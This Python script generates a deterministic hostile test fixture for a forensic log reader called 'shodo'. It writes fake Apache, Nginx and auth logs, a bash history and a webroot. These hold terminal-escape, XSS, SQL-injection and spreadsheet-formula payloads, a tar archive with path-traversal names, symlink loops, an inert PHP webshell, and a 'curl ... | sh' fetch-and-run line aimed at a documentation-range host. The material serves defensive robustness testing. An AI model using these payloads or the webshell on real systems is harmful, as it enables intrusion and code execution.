#!/usr/bin/env python3
"""Writes the hostile sample (seeded: the same bytes every time).

A collected server folder in which every string an attacker controls tries to
act on whoever reads shodo's outputs: terminal escapes (screen clear, title
change, C1 CSI), markup that would close a <style> or <script> element or run
script, spreadsheet formulas, invalid UTF-8, NUL bytes, CR, U+2028, Markdown
links to javascript:, very long fields; plus files that try to break the
reader: a symlink loop, a folder tree deeper than the walk goes, and a tar
whose names climb out (../), are absolute, or hold control characters.
What cannot be committed (a FIFO, a 10 GB sparse file, a 500 MB line, a
compression bomb, millions of client addresses) is made at test time
(tests/safety/). Every address is from the documentation ranges.

Outputs (committed, small):
  hostile/var/log/apache2/{access,error}.log   web logs
  hostile/var/log/nginx/access.log             JSON lines (Nginx escape=json)
  hostile/var/log/auth.log                     SSH brute force, hostile user names
  hostile/home/mallory/.bash_history           commands with escapes
  hostile/etc/passwd                           an account with a hostile comment
  hostile/var/www/html/                        webroot: a webshell, a loop, a deep tree
  hostile/collected.tar                        a webroot archive with unsafe names
Run: python3 samples/generate_hostile.py
"""
import io
import json
import os
import random
import shutil
import tarfile
from datetime import datetime, timedelta, timezone

JST = timezone(timedelta(hours=9))
rng = random.Random(20241126)

ATTACKER = "203.0.113.66"    # scanner, SQL injection, webshell use
BRUTE = "198.51.100.99"      # SSH brute force
VISITORS = ["192.0.2.%d" % i for i in range(30, 40)]
START = datetime(2024, 3, 10, 3, 0, 0, tzinfo=JST)
DEEP = 140                   # folders below the webroot: more than the walk's 128

# Strings that must never act on a reader, by what they attack.
ANSI = "\x1b[2J\x1b[H\x1b]0;pwned\x07\u009b31m"     # clear, home, title, C1 CSI (as UTF-8)
MARKUP = "<script>alert(1)</script></style><b>x</b>\"><img src=x onerror=alert(2)>"
SCRIPT_CLOSE = "</script><script>alert(3)</script>"
FORMULA = "=cmd|' /C calc'!A0"
MARKDOWN = "](javascript:alert(4)) | cell | `tick` <!--"
SEPARATORS = "\u2028\u2029"
# Bytes, not text: invalid UTF-8, NUL, CR, a raw C1 byte.
RAW = b"\xff\xfe\xc0\xaf\x00\r\x9b"


def hostile(label):
    """One hostile value (text part) with the label a test can find."""
    return "%s %s%s %s %s%s" % (FORMULA, ANSI, MARKUP, SCRIPT_CLOSE, MARKDOWN, SEPARATORS) + label


def b(s):
    return s.encode("utf-8") if isinstance(s, str) else s


def clf(t):
    return t.strftime("%d/%b/%Y:%H:%M:%S %z")


def access_line(t, ip, method, target, status, size, ref, ua):
    return b'%s - - [%s] "%s %s HTTP/1.1" %d %s "%s" "%s"\n' % (
        b(ip), b(clf(t)), b(method), b(target), status, b(str(size)), b(ref), b(ua))


def access_log():
    lines = []
    t = START - timedelta(hours=1)
    for _ in range(40):  # ordinary visitors before the attack
        t += timedelta(seconds=rng.randint(20, 90))
        lines.append(access_line(t, rng.choice(VISITORS), "GET", rng.choice(["/", "/index.php", "/about.php"]),
                                 200, rng.randint(900, 4000), "-", "Mozilla/5.0 (X11; Linux x86_64)"))
    t = START
    formulas = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1"]
    for i in range(60):  # a scanner whose every field is hostile
        t += timedelta(seconds=1)
        ua = b"sqlmap/1.7 " + b(hostile("ua%d" % i)) + RAW
        target = "/index.php?id=1%27%20UNION%20SELECT%201,2--%20&q=" + "%3Cscript%3Ealert(1)%3C/script%3E&n=" + str(i)
        lines.append(access_line(t, ATTACKER, "GET", target, 200, 512, formulas[i % len(formulas)], ua))
    for i, path in enumerate(["/../../../../etc/passwd", "/<script>alert(1)</script>.php",
                              "/\x1b[2J\x1b]0;pwned\x07.php", "/=cmd|' /C calc'!A0.php", "/wp-login.php"]):
        t += timedelta(seconds=1)
        lines.append(access_line(t, ATTACKER, "GET", path, 404, 0, "javascript:alert(5)", "Nikto/2.5.0 " + ANSI))
    t += timedelta(seconds=5)  # the webshell: uploaded, then used
    lines.append(access_line(t, ATTACKER, "POST", "/upload.php", 200, 44, "-", "curl/8.0 " + MARKUP))
    for cmd in ["id", "cat%20/etc/passwd", "echo%20%1B%5B2J%3Cscript%3Ealert(6)%3C%2Fscript%3E"]:
        t += timedelta(seconds=3)
        lines.append(access_line(t, ATTACKER, "POST", "/uploads/cache.php?c=" + cmd, 200, 120, "-",
                                 "curl/8.0 " + FORMULA))
    t += timedelta(seconds=1)  # a field longer than any report should print whole
    lines.append(access_line(t, ATTACKER, "GET", "/index.php?x=" + "A" * 70000, 414, 0, "-",
                             "sqlmap/1.7 " + "<script>" * 2000))
    lines.append(b"\x1b[2J\x1b[H\xff garbage " + b(FORMULA) + b" <script>alert(7)</script>\x00\r\n")
    return b"".join(lines)


def error_log():
    t = START + timedelta(seconds=30)
    return b"[%s] [php:warn] [pid 2211] [client %s:51122] PHP Warning:  %s in /var/www/html/index.php on line 6\n" % (
        b(t.strftime("%a %b %d %H:%M:%S.120044 %Y")), b(ATTACKER), b(hostile("error")) + RAW)


def nginx_json_log():
    lines = []
    t = START + timedelta(minutes=5)
    for i in range(20):
        t += timedelta(seconds=2)
        rec = {"time_iso8601": t.isoformat(), "remote_addr": ATTACKER, "request_method": "GET",
               "request_uri": "/search?q=%3Cscript%3Ealert(8)%3C/script%3E&i=" + str(i),
               "status": 200, "body_bytes_sent": 100, "http_referer": FORMULA,
               "http_user_agent": "sqlmap/1.7 " + hostile("json%d" % i)}
        lines.append(json.dumps(rec, ensure_ascii=False).encode() + b"\n")
    return b"".join(lines)


def auth_log():
    lines = []
    t = START + timedelta(minutes=10)
    users = ["root", "<script>alert(9)</script>", FORMULA, "\x1b[2Jadmin", "test"]
    for i in range(60):
        t += timedelta(seconds=2)
        u = users[i % len(users)]
        lines.append(b"%s web01 sshd[%d]: Failed password for invalid user %s from %s port %d ssh2\n" % (
            b(t.isoformat(timespec="microseconds")), 4000 + i, b(u), b(BRUTE), 40000 + i))
    return b"".join(lines)


def bash_history():
    t = int((START + timedelta(minutes=20)).timestamp())
    cmds = ["curl -s http://203.0.113.66/x.sh | sh", "echo '" + ANSI + "'", "echo '" + MARKUP + "'",
            FORMULA, "wget http://203.0.113.66/" + SCRIPT_CLOSE]
    return b"".join(b"#%d\n%s\n" % (t + i, b(c)) for i, c in enumerate(cmds))


def passwd():
    return b("root:x:0:0:root:/root:/bin/bash\n"
             "mallory:x:0:0:" + MARKUP + FORMULA + ":/home/mallory:/bin/bash\n"
             "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n")


# Inert: execution ends at the first statement; the rest only has the shape
# of a webshell, for the scanners to find.
WEBSHELL = ("<?php exit('inert sample'); ?>\n<?php\n/* " + MARKUP + " */\n"
            "if (isset($_REQUEST['c'])) {\n  echo '<pre>';\n  system($_REQUEST['c']);\n  echo '</pre>';\n}\n"
            "eval(base64_decode($_POST['p']));\n")


def webroot(root):
    write(os.path.join(root, "index.php"), "<?php echo 'shop'; ?>\n")
    write(os.path.join(root, "about.php"), "<?php echo 'about " + MARKUP + "'; ?>\n")
    write(os.path.join(root, "uploads", "cache.php"), WEBSHELL)
    write(os.path.join(root, "uploads", "=cmd|' calc'!A0 <script>alert(10)<", "x.php"), WEBSHELL)
    os.symlink("loop-b", os.path.join(root, "loop-a"))
    os.symlink("loop-a", os.path.join(root, "loop-b"))
    os.symlink(".", os.path.join(root, "self"))
    os.symlink("../../../../../../../../etc/shadow", os.path.join(root, "shadow"))
    deep = os.path.join(root, *(["d"] * DEEP))
    write(os.path.join(deep, "bottom.php"), WEBSHELL)


def collected_tar():
    """A webroot archive whose names an extractor must not honour."""
    buf = io.BytesIO()
    mtime = int((START + timedelta(minutes=1)).timestamp())
    names = ["var/www/html/index.php",
             "var/www/html/uploads/cache.php",
             "../../../../../../tmp/shodo-hostile-escape.php",
             "/etc/cron.d/shodo-hostile",
             "var/www/html/../../../../tmp/shodo-hostile-climb.php",
             "var/www/html/uploads/\x1b[2J\x1b]0;pwned\x07.php",
             "var/www/html/uploads/line\nbreak <script>alert(11)</script>.php",
             "var/www/html/uploads/" + FORMULA + ".php"]
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT, encoding="utf-8",
                      errors="surrogateescape") as tar:
        for i, name in enumerate(names):
            data = b(WEBSHELL if name.endswith(".php") and i > 0 else "<?php echo 'shop'; ?>\n")
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mode = 0o644
            info.mtime = mtime
            tar.addfile(info, io.BytesIO(data))
        raw_name = tarfile.TarInfo("var/www/html/uploads/\udcff\udcfe-invalid.php")
        raw_name.size = len(WEBSHELL)
        raw_name.mtime = mtime
        tar.addfile(raw_name, io.BytesIO(b(WEBSHELL)))
        link = tarfile.TarInfo("var/www/html/passwd")
        link.type = tarfile.SYMTYPE
        link.linkname = "../../../../etc/passwd"
        link.mtime = mtime
        tar.addfile(link)
    return buf.getvalue()


def write(path, data, mtime=None):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(b(data))
    stamp = (mtime or START).timestamp()
    os.utime(path, (stamp, stamp))


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    out = os.path.join(here, "hostile")
    shutil.rmtree(out, ignore_errors=True)
    write(os.path.join(out, "var/log/apache2/access.log"), access_log())
    write(os.path.join(out, "var/log/apache2/error.log"), error_log())
    write(os.path.join(out, "var/log/nginx/access.log"), nginx_json_log())
    write(os.path.join(out, "var/log/auth.log"), auth_log())
    write(os.path.join(out, "home/mallory/.bash_history"), bash_history())
    write(os.path.join(out, "etc/passwd"), passwd())
    webroot(os.path.join(out, "var/www/html"))
    write(os.path.join(out, "collected.tar"), collected_tar())


if __name__ == "__main__":
    main()
